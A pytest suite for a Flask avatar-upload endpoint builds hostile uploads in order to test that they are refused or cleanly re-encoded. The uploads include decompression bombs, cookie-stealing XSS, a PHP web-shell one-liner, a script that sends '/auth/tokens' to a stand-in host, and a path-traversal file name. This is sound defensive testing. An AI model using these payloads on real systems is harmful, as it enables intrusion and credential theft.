"""Hostile avatar uploads: decompression bombs, disguised scripts, damaged files, formats outside
the contract, animations and metadata. Each is refused with a 4xx or converted into a clean
WebP, never a 500 and never stored as sent. Every hostile file is built here, in the test.
"""

import io
import os
import random
import stat
import struct
import warnings
import zlib
from pathlib import Path

import pytest
from flask import Flask
from PIL import EpsImagePlugin, Image, ImageCms, PngImagePlugin

from app.errors import ApiError
from app.services.avatars import convert_to_webp
from tests.conftest import Session, assert_error
from tests.test_avatars import (
    BLUE,
    PIXEL_CHUNKS,
    RED,
    UPLOAD_URL,
    avatar_name,
    close_to,
    encode,
    files_in,
    gif_claiming_size,
    image_bytes,
    png_claiming_size,
    stored_avatar,
    two_colour,
    upload,
    webp_chunks,
)

CANARY = b"parley-hostile-canary"


# --- building hostile files ------------------------------------------------------------------


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk with a correct CRC."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def raw_png(width: int, height: int, idat: bytes, bit_depth: int = 8, colour_type: int = 0) -> bytes:
    """A PNG of one IDAT chunk holding idat as given (grey, 8 bits, unless told)."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def zeros_deflating_to(mebibytes: int) -> bytes:
    """A valid zlib stream of about 1 KiB per MiB that inflates to that many MiB of zeros."""
    mib = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the compressor remembers nothing, so this block inflates to 1 MiB anywhere.
    again = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()[:-4]  # the final block without the checksum of the 2 MiB fed
    total = mebibytes << 20
    adler32_of_zeros = (total % 65521) << 16 | 1  # Adler-32 of n zero bytes: a = 1, b = n mod 65521
    return first + again * (mebibytes - 1) + end + adler32_of_zeros.to_bytes(4, "big")


def jpeg_claiming_size(width: int, height: int) -> bytes:
    """An 8x8 JPEG whose start-of-frame claims width x height."""
    data = bytearray(image_bytes("JPEG", (8, 8)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def lossless_webp_claiming_size(width: int, height: int) -> bytes:
    """A 1x1 lossless WebP whose VP8L header claims width x height (14 bits each, at most 16384)."""
    data = bytearray(encode(Image.new("RGB", (1, 1)), "WEBP", lossless=True))
    at = data.index(b"VP8L") + 8
    assert data[at] == 0x2F  # the VP8L signature byte
    rest = int.from_bytes(data[at + 1 : at + 5], "little") & ~((1 << 28) - 1)
    data[at + 1 : at + 5] = ((width - 1) | (height - 1) << 14 | rest).to_bytes(4, "little")
    return bytes(data)


def lossy_webp_claiming_size(width: int, height: int) -> bytes:
    """A 16x16 lossy WebP whose VP8 key frame header claims width x height (at most 16383)."""
    data = bytearray(encode(Image.new("RGB", (16, 16)), "WEBP"))
    at = data.index(b"VP8 ") + 8 + 3
    assert data[at : at + 3] == b"\x9d\x01\x2a"  # the key frame start code
    data[at + 3 : at + 7] = struct.pack("<HH", width, height)
    return bytes(data)


def animated_webp_claiming_canvas(width: int, height: int) -> bytes:
    """A two-frame 16x16 animated WebP whose VP8X canvas claims width x height."""
    frames = [Image.new("RGB", (16, 16), RED), Image.new("RGB", (16, 16), BLUE)]
    data = bytearray(encode(frames[0], "WEBP", save_all=True, append_images=frames[1:]))
    at = data.index(b"VP8X") + 8 + 4
    data[at : at + 6] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(data)


def gif_with_first_frame(width: int, height: int, left: int = 0, top: int = 0) -> bytes:
    """A GIF with a 1x1 screen whose first frame descriptor claims to cover width x height."""
    data = bytearray(image_bytes("GIF", (1, 1)))
    at = data.index(b",")  # the image descriptor
    data[at + 1 : at + 9] = struct.pack("<HHHH", left, top, width, height)
    return bytes(data)


def psd(width: int = 6, height: int = 4) -> bytes:
    """A minimal uncompressed RGB Photoshop file (Pillow reads PSD but cannot write it)."""
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    sections = struct.pack(">III", 0, 0, 0)  # colour mode data, image resources, layers: empty
    return header + sections + struct.pack(">H", 0) + bytes(3 * width * height)


def seeded_noise(size: tuple[int, int] = (160, 120)) -> Image.Image:
    """Random RGB pixels, the same every run, so every damaged variant below is too."""
    return Image.frombytes("RGB", size, random.Random(size[0] * size[1]).randbytes(size[0] * size[1] * 3))


def exif(tags: dict[int, object]) -> Image.Exif:
    """An EXIF block holding tags."""
    block = Image.Exif()
    block.update(tags)
    return block


def saved_by_pillow(fmt: str, **params) -> bytes:
    return encode(Image.new("RGB", (16, 16), RED), fmt, **params)


def multipart(*files: tuple[str, bytes, str, str]) -> dict:
    """A multipart body from (field, bytes, file name, content type) parts; one field may repeat."""
    body: dict[str, list] = {}
    for field, data, name, content_type in files:
        body.setdefault(field, []).append((io.BytesIO(data), name, content_type))
    return body


def upload_as_png(session: Session, data: bytes):
    """POST the bytes as `file`, named avatar.png and labelled image/png, whatever they are."""
    return session.post(UPLOAD_URL, data=multipart(("file", data, "avatar.png", "image/png")))


def stored_image(response, avatar_dir: Path) -> Image.Image:
    """The stored avatar of a successful upload, opened (and checked to be a WebP)."""
    assert response.status_code == 200, response.get_json()
    stored = Image.open(avatar_dir / avatar_name(response))
    assert stored.format == "WEBP"
    return stored


# --- fixtures (as in test_avatars.py) --------------------------------------------------------


@pytest.fixture
def avatar_dir(app: Flask) -> Path:
    return Path(app.config["UPLOAD_FOLDER"]) / "avatars"


@pytest.fixture
def previous_avatar(member_session: Session, avatar_dir: Path) -> str:
    """The member has an avatar already; returns its file name."""
    name = avatar_name(upload(member_session, image_bytes("PNG")))
    assert files_in(avatar_dir) == {name}
    return name


@pytest.fixture
def assert_unchanged(member_session: Session, previous_avatar: str, avatar_dir: Path):
    """Check that the previous avatar is still the member's and no file was added or removed."""

    def check() -> None:
        assert stored_avatar(member_session.user.id) == previous_avatar
        assert files_in(avatar_dir) == {previous_avatar}

    return check


# --- decompression bombs ---------------------------------------------------------------------


def test_png_whose_idat_inflates_to_a_gibibyte_is_converted_from_its_declared_rows(
    member_session, avatar_dir
):
    # 1000 x 1000 grey needs 1000 x 1001 bytes inflated; the stream holds 1 GiB. The decoder must
    # stop at the last declared row instead of inflating (and holding) the rest.
    data = raw_png(1000, 1000, zeros_deflating_to(1024))
    assert len(data) < 2 * 1024 * 1024
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert stored.size == (512, 512)


HUGE_HEADERS = {
    "png-60000x60000": lambda: png_claiming_size(60000, 60000),
    "png-2147483647-square": lambda: png_claiming_size(2**31 - 1, 2**31 - 1),
    "gif-screen-60000x60000": lambda: gif_claiming_size(60000, 60000),
    "gif-first-frame-8000x6000": lambda: gif_with_first_frame(8000, 6000),
    "gif-first-frame-65535-square-at-65535": lambda: gif_with_first_frame(65535, 65535, 65535, 65535),
    "jpeg-8000x6000": lambda: jpeg_claiming_size(8000, 6000),
    "jpeg-65000x65000": lambda: jpeg_claiming_size(65000, 65000),
    "webp-lossless-8000x6000": lambda: lossless_webp_claiming_size(8000, 6000),
    "webp-lossless-16384x16384": lambda: lossless_webp_claiming_size(16384, 16384),
    "webp-lossy-8000x6000": lambda: lossy_webp_claiming_size(8000, 6000),
    "webp-lossy-16383x16383": lambda: lossy_webp_claiming_size(16383, 16383),
    "webp-animated-canvas-8000x6000": lambda: animated_webp_claiming_canvas(8000, 6000),
    "webp-animated-canvas-16384x16384": lambda: animated_webp_claiming_canvas(16384, 16384),
}


@pytest.mark.parametrize("kind", sorted(HUGE_HEADERS))
def test_tiny_file_declaring_huge_dimensions_is_image_too_large(member_session, assert_unchanged, kind):
    data = HUGE_HEADERS[kind]()
    assert len(data) < 1024
    error = assert_error(upload_as_png(member_session, data), 422, "image_too_large")
    assert error["fields"]["file"]
    assert_unchanged()


# Between Pillow's warning (89.5 MP) and error (179 MP) thresholds: only a warning from Pillow.
WARNING_ZONE = {
    "png": lambda: png_claiming_size(10000, 10000),
    "jpeg": lambda: jpeg_claiming_size(10000, 10000),
    "webp": lambda: lossless_webp_claiming_size(10000, 10000),
}


@pytest.mark.parametrize("kind", sorted(WARNING_ZONE))
def test_pillow_bomb_warning_raised_as_error_is_image_too_large(member_session, assert_unchanged, kind):
    # Under `python -W error` Pillow's DecompressionBombWarning is an exception, not a log line.
    with warnings.catch_warnings():
        warnings.simplefilter("error", Image.DecompressionBombWarning)
        response = upload_as_png(member_session, WARNING_ZONE[kind]())
    assert_error(response, 422, "image_too_large")
    assert_unchanged()


@pytest.mark.parametrize("kind", ["png-60000x60000", "jpeg-8000x6000", "webp-lossless-16384x16384"])
def test_pixel_limit_holds_with_pillows_own_guard_switched_off(
    member_session, assert_unchanged, monkeypatch, kind
):
    # Another library in the process may set Image.MAX_IMAGE_PIXELS = None; our limit must not care.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
    assert_error(upload_as_png(member_session, HUGE_HEADERS[kind]()), 422, "image_too_large")
    assert_unchanged()


# --- not images at all, dressed up as PNGs ---------------------------------------------------

DISGUISED = {
    "html": b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>",
    "svg-with-script": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
        b'<script>alert(document.domain)</script><rect width="64" height="64" fill="red"/></svg>'
    ),
    "svg-with-onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": b"<?php system($_GET['cmd']); ?>\n",
    "javascript": b"fetch('/auth/tokens').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));\n",
    "png-signature-then-php": b"\x89PNG\r\n\x1a\n<?php system($_GET['cmd']); ?>",
    "gif-magic-then-script": b"GIF89a/*<script>alert(1)</script>*/",
}


@pytest.mark.parametrize("kind", sorted(DISGUISED))
def test_script_labelled_image_png_is_422_not_an_image(member_session, assert_unchanged, kind):
    error = assert_error(upload_as_png(member_session, DISGUISED[kind]), 422, "not_an_image")
    assert error["fields"]["file"]
    assert_unchanged()


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP"])
def test_payload_appended_to_a_real_image_is_not_stored(member_session, avatar_dir, fmt):
    payload = b"<?php system($_GET['cmd']); ?><script>alert(1)</script>" + CANARY
    response = upload_as_png(member_session, image_bytes(fmt) + payload)
    stored_image(response, avatar_dir).close()
    stored_bytes = (avatar_dir / avatar_name(response)).read_bytes()
    assert CANARY not in stored_bytes
    assert b"<?php" not in stored_bytes


# --- damaged files and odd requests ----------------------------------------------------------


def png_with_bad_header_crc() -> bytes:
    data = bytearray(image_bytes("PNG"))
    data[29] ^= 0xFF  # the IHDR CRC
    return bytes(data)


def png_with_corrupt_pixel_data() -> bytes:
    data = bytearray(encode(seeded_noise(), "PNG"))
    at = data.index(b"IDAT") + 4
    data[at + 20 : at + 120] = bytes(100)  # zeroed deflate data; the chunk CRC is not what fails
    return bytes(data)


def jpeg_without_its_scan() -> bytes:
    data = image_bytes("JPEG")
    return data[: data.index(b"\xff\xda")] + b"\xff\xd9"  # headers, then end of image at once


def gif_with_broken_lzw() -> bytes:
    data = bytearray(encode(seeded_noise().convert("P"), "GIF"))
    at = data.index(b",") + 10  # right after the image descriptor: the LZW minimum code size
    assert data[at] == 8
    data[at] = 0xFF  # an impossible code size
    return bytes(data)


def webp_with_wrong_riff_size() -> bytes:
    data = bytearray(image_bytes("WEBP"))
    data[4:8] = struct.pack("<I", 0x7FFFFFF0)
    return bytes(data)


DAMAGED = {
    "png-bad-ihdr-crc": png_with_bad_header_crc,
    "png-corrupt-idat": png_with_corrupt_pixel_data,
    "png-no-idat": lambda: raw_png(64, 48, b"")[:-24] + png_chunk(b"IEND", b""),
    "jpeg-no-scan": jpeg_without_its_scan,
    "gif-broken-lzw": gif_with_broken_lzw,
    "webp-riff-size-2-gib": webp_with_wrong_riff_size,
    "webp-header-only": lambda: image_bytes("WEBP")[:20],
}


@pytest.mark.parametrize("kind", sorted(DAMAGED))
def test_damaged_image_is_422_not_an_image(member_session, assert_unchanged, kind):
    error = assert_error(upload_as_png(member_session, DAMAGED[kind]()), 422, "not_an_image")
    assert error["fields"]["file"]
    assert_unchanged()


SEEDS = {
    "png": lambda: encode(two_colour((40, 30)), "PNG"),
    "jpeg": lambda: encode(two_colour((40, 30)), "JPEG", exif=exif({0x0112: 6})),
    "jpeg-progressive": lambda: encode(two_colour((40, 30)), "JPEG", progressive=True),
    "gif-animated": lambda: encode(
        two_colour((40, 30)).convert("P"),
        "GIF",
        save_all=True,
        append_images=[seeded_noise((40, 30)).convert("P")],
    ),
    "webp": lambda: encode(two_colour((40, 30)), "WEBP"),
    "webp-lossless": lambda: encode(two_colour((40, 30)), "WEBP", lossless=True),
    "webp-animated": lambda: encode(
        two_colour((40, 30)), "WEBP", save_all=True, append_images=[seeded_noise((40, 30))]
    ),
    "apng": lambda: encode(
        two_colour((40, 30)), "PNG", save_all=True, append_images=[seeded_noise((40, 30))]
    ),
}
MUTANTS_PER_SEED = 150


def mutants(seed_name: str, data: bytes) -> list[bytes]:
    """Deterministic random damage: overwritten, deleted and inserted bytes, 1 to 16 edits each."""
    rng = random.Random(seed_name)
    result = []
    for _ in range(MUTANTS_PER_SEED):
        mutant = bytearray(data)
        for _ in range(rng.choice([1, 2, 4, 8, 16])):
            at, roll = rng.randrange(len(mutant)), rng.random()
            if roll < 0.6:
                mutant[at] = rng.randrange(256)
            elif roll < 0.8:
                del mutant[at : at + rng.randrange(1, 16)]
            else:
                mutant[at:at] = rng.randbytes(rng.randrange(1, 8))
        result.append(bytes(mutant))
    return result


def outcome(data: bytes) -> tuple[int, str]:
    """What converting the bytes gives: (200, the stored format and side) or (status, error code)."""
    try:
        converted = convert_to_webp(data)
    except ApiError as error:
        return error.status, error.code
    with Image.open(io.BytesIO(converted)) as result:
        return 200, f"{result.format} {max(result.size)}"


@pytest.mark.parametrize("seed", sorted(SEEDS))
@pytest.mark.filterwarnings("ignore")  # Pillow warns about the corrupt EXIF and APNG it skips
def test_randomly_damaged_image_is_converted_or_refused_never_crashes(app, seed):
    outcomes = {outcome(mutant) for mutant in mutants(seed, SEEDS[seed]())}
    refusals = {(422, "not_an_image"), (422, "image_too_large")}
    conversions = {(200, f"WEBP {side}") for side in range(1, 513)}
    assert outcomes <= refusals | conversions
    assert outcomes & conversions  # some damage leaves the file readable: both paths ran
    assert (422, "not_an_image") in outcomes


def test_two_files_in_the_field_is_422(member_session, assert_unchanged):
    body = multipart(
        ("file", image_bytes("PNG"), "a.png", "image/png"),
        ("file", image_bytes("JPEG"), "b.jpg", "image/jpeg"),
    )
    error = assert_error(member_session.post(UPLOAD_URL, data=body), 422)
    assert error["fields"]["file"]
    assert_unchanged()


def test_image_in_a_wrong_field_beside_an_empty_file_field_is_422(member_session, assert_unchanged):
    body = multipart(
        ("avatar", image_bytes("PNG"), "a.png", "image/png"),
        ("file", b"", "", "application/octet-stream"),  # what a browser sends when nothing is chosen
    )
    error = assert_error(member_session.post(UPLOAD_URL, data=body), 422, "not_an_image")
    assert error["fields"]["file"]
    assert_unchanged()


def test_file_name_and_content_type_do_not_decide_the_format(member_session, avatar_dir):
    body = multipart(("file", image_bytes("GIF"), "../../../evil.php", "application/x-php"))
    response = member_session.post(UPLOAD_URL, data=body)
    with stored_image(response, avatar_dir) as stored:
        assert stored.size == (64, 48)


# --- formats Pillow reads but the contract does not accept -----------------------------------

OUTSIDE_THE_CONTRACT = {
    "bmp": lambda: saved_by_pillow("BMP"),
    "tiff": lambda: saved_by_pillow("TIFF"),
    "ico": lambda: saved_by_pillow("ICO"),
    "psd": psd,
    "eps": lambda: saved_by_pillow("EPS"),
    "pcx": lambda: saved_by_pillow("PCX"),
    "tga": lambda: saved_by_pillow("TGA"),
    "ppm": lambda: saved_by_pillow("PPM"),
    "sgi": lambda: saved_by_pillow("SGI"),
    "dds": lambda: saved_by_pillow("DDS"),
    "qoi": lambda: saved_by_pillow("QOI"),
    "jpeg2000": lambda: saved_by_pillow("JPEG2000"),
    "avif": lambda: saved_by_pillow("AVIF"),
}


@pytest.mark.parametrize("kind", sorted(OUTSIDE_THE_CONTRACT))
def test_format_outside_the_contract_is_422_not_an_image(member_session, assert_unchanged, kind):
    data = OUTSIDE_THE_CONTRACT[kind]()
    with Image.open(io.BytesIO(data)) as readable:  # Pillow could read it: only our list refuses it
        assert readable.format
    error = assert_error(upload_as_png(member_session, data), 422, "not_an_image")
    assert error["fields"]["file"]
    assert_unchanged()


@pytest.fixture
def ghostscript_canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A `gs` first on PATH that only records being run; returns the file it writes to."""
    marker = tmp_path / "ghostscript-ran"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    gs = bin_dir / "gs"
    gs.write_text(f'#!/bin/sh\necho "$@" >> "{marker}"\n')
    gs.chmod(gs.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    monkeypatch.setattr(EpsImagePlugin, "gs_binary", None)  # Pillow caches where gs is: look again
    return marker


def test_ghostscript_canary_notices_an_unrestricted_eps_decode(ghostscript_canary):
    # Proves the canary below can fail: plain Image.open hands an EPS to Ghostscript (whose
    # stand-in writes no picture, so Pillow cannot read the result).
    with (
        Image.open(io.BytesIO(saved_by_pillow("EPS"))) as eps,
        pytest.raises(OSError, match="cannot identify image file"),
    ):
        eps.load()
    assert ghostscript_canary.exists()


def test_eps_upload_never_reaches_ghostscript(member_session, assert_unchanged, ghostscript_canary):
    assert_error(upload_as_png(member_session, saved_by_pillow("EPS")), 422, "not_an_image")
    assert not ghostscript_canary.exists()
    assert_unchanged()


def test_multi_picture_jpeg_is_accepted_as_its_first_picture(member_session, avatar_dir):
    # Cameras and phones write MPO: a JPEG with more pictures after the first. It is a JPEG.
    data = encode(
        Image.new("RGB", (60, 40), RED),
        "MPO",
        save_all=True,
        append_images=[Image.new("RGB", (60, 40), BLUE)],
    )
    with Image.open(io.BytesIO(data)) as sent:
        assert sent.format == "MPO"
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert close_to(stored.convert("RGB").getpixel((30, 20)), RED)


# --- animations: the first frame, and only the first frame is ever decoded -------------------


def animation(fmt: str) -> bytes:
    """Two frames, red then random noise, in an animated GIF, WebP or PNG (APNG)."""
    frames = [Image.new("RGB", (60, 40), RED), seeded_noise((60, 40))]
    if fmt == "GIF":
        frames = [frame.convert("P") for frame in frames]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


def with_second_frame_wrecked(fmt: str) -> bytes:
    """The animation with the second frame's compressed pixels overwritten (headers intact)."""
    data = bytearray(animation(fmt))
    if fmt == "GIF":
        start, end = data.rindex(b",") + 12, len(data) - 2
    elif fmt == "WEBP":
        start, end = data.rindex(b"VP8 ") + 18, len(data)
    else:
        start = data.index(b"fdAT") + 8
        end = start + 200
    for at in range(start, end):
        data[at] ^= 0x5A
    return bytes(data)


@pytest.mark.parametrize("fmt", ["GIF", "WEBP", "PNG"])
def test_animation_is_stored_as_a_still_of_its_first_frame(member_session, avatar_dir, fmt):
    data = animation(fmt)
    with Image.open(io.BytesIO(data)) as sent:
        assert sent.n_frames == 2
    response = upload_as_png(member_session, data)
    with stored_image(response, avatar_dir) as stored:
        assert getattr(stored, "n_frames", 1) == 1
        assert close_to(stored.convert("RGB").getpixel((30, 20)), RED)
    assert b"ANIM" not in webp_chunks((avatar_dir / avatar_name(response)).read_bytes())


@pytest.mark.parametrize(
    ("fmt", "broken"),
    [("GIF", "broken data stream"), ("WEBP", "failed to read next frame"), ("PNG", "broken data stream")],
)
def test_frames_after_the_first_are_never_decoded(member_session, avatar_dir, fmt, broken):
    data = with_second_frame_wrecked(fmt)
    with Image.open(io.BytesIO(data)) as sent:  # the second frame really cannot be decoded
        sent.seek(1)
        with pytest.raises(OSError, match=broken):
            sent.load()
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert close_to(stored.convert("RGB").getpixel((30, 20)), RED)


# --- metadata --------------------------------------------------------------------------------


def png_text(kind: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    text = CANARY.decode()
    if kind == "tEXt":
        info.add_text("Comment", text)
    elif kind == "zTXt":
        info.add_text("Comment", text, zip=True)
    else:
        info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{text}</x:xmpmeta>")
    return encode(two_colour((40, 30)), "PNG", pnginfo=info)


TEXT_METADATA = {
    "jpeg-comment": lambda: encode(two_colour((40, 30)), "JPEG", comment=CANARY),
    "jpeg-xmp": lambda: encode(two_colour((40, 30)), "JPEG", xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"),
    "jpeg-exif": lambda: encode(two_colour((40, 30)), "JPEG", exif=exif({0x010F: CANARY.decode()})),
    "png-text": lambda: png_text("tEXt"),
    "png-ztxt": lambda: png_text("zTXt"),
    "png-itxt-xmp": lambda: png_text("iTXt"),
    "gif-comment": lambda: encode(two_colour((40, 30)), "GIF", comment=CANARY),
    "webp-xmp": lambda: encode(two_colour((40, 30)), "WEBP", xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"),
}


@pytest.mark.parametrize("kind", sorted(TEXT_METADATA))
def test_text_metadata_is_not_stored(member_session, avatar_dir, kind):
    data = TEXT_METADATA[kind]()
    with Image.open(io.BytesIO(data)) as sent:  # the upload really carries the canary
        assert CANARY.decode() in repr(sent.info)
    response = upload_as_png(member_session, data)
    stored_image(response, avatar_dir).close()
    stored_bytes = (avatar_dir / avatar_name(response)).read_bytes()
    assert CANARY not in stored_bytes
    assert set(webp_chunks(stored_bytes)) <= PIXEL_CHUNKS


SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_icc_profile_is_not_stored(member_session, avatar_dir, fmt):
    data = encode(two_colour((40, 30)), fmt, icc_profile=SRGB)
    with Image.open(io.BytesIO(data)) as sent:
        assert sent.info["icc_profile"]
    response = upload_as_png(member_session, data)
    with stored_image(response, avatar_dir) as stored:
        assert "icc_profile" not in stored.info
    assert b"ICCP" not in webp_chunks((avatar_dir / avatar_name(response)).read_bytes())


def test_unreadable_exif_is_ignored_and_the_image_kept(member_session, avatar_dir):
    broken_exif = b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\xff\xff" + b"\x01" * 30  # 65535 entries, 30 bytes
    data = encode(two_colour((80, 60)), "JPEG", exif=broken_exif)
    with pytest.warns(UserWarning, match="Corrupt EXIF"):  # Pillow itself finds the EXIF corrupt
        response = upload_as_png(member_session, data)
    with stored_image(response, avatar_dir) as stored:
        assert stored.size == (80, 60)
        assert not stored.getexif()


def test_exif_orientation_is_applied_to_a_scaled_image(member_session, avatar_dir):
    # Orientation 6 on a picture bigger than 512: the turn and the scaling must both happen.
    data = encode(two_colour((2000, 1000)), "JPEG", exif=exif({0x0112: 6}), quality=95)
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert stored.size == (256, 512)
        image = stored.convert("RGB")
        assert close_to(image.getpixel((128, 40)), RED)  # the left half ends up on top
        assert close_to(image.getpixel((128, 470)), BLUE)


def test_xmp_orientation_is_applied(member_session, avatar_dir):
    info = PngImagePlugin.PngInfo()
    info.add_itxt(
        "XML:com.adobe.xmp",
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="6"/>'
        "</rdf:RDF></x:xmpmeta>",
    )
    data = encode(two_colour((200, 100)), "PNG", pnginfo=info)
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert stored.size == (100, 200)
        assert close_to(stored.convert("RGB").getpixel((50, 20)), RED)


# --- unusual but honest pixels ---------------------------------------------------------------


def test_16_bit_greyscale_png_keeps_its_tones(member_session, avatar_dir):
    # Mid grey in 16 bits is 0x8000; clipping instead of scaling to 8 bits would store white.
    row = b"\x00" + b"\x80\x00" * 20
    data = raw_png(20, 10, zlib.compress(row * 10), bit_depth=16, colour_type=0)
    with Image.open(io.BytesIO(data)) as sent:
        assert sent.mode.startswith("I;16")
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert close_to(stored.convert("RGB").getpixel((10, 5)), (128, 128, 128), slack=8)


def test_cmyk_jpeg_is_stored_in_rgb(member_session, avatar_dir):
    data = encode(Image.new("CMYK", (40, 30), (0, 255, 255, 0)), "JPEG")  # red, in print inks
    with stored_image(upload_as_png(member_session, data), avatar_dir) as stored:
        assert stored.mode == "RGB"
        assert close_to(stored.getpixel((20, 15)), (255, 0, 0))


def test_webp_upload_is_re_encoded_not_copied(member_session, avatar_dir):
    data = encode(two_colour((64, 48)), "WEBP", lossless=True)
    response = upload_as_png(member_session, data)
    stored_bytes = (avatar_dir / avatar_name(response)).read_bytes()
    assert stored_bytes != data
    assert b"VP8 " in webp_chunks(stored_bytes)  # lossy at quality 85, whatever came in
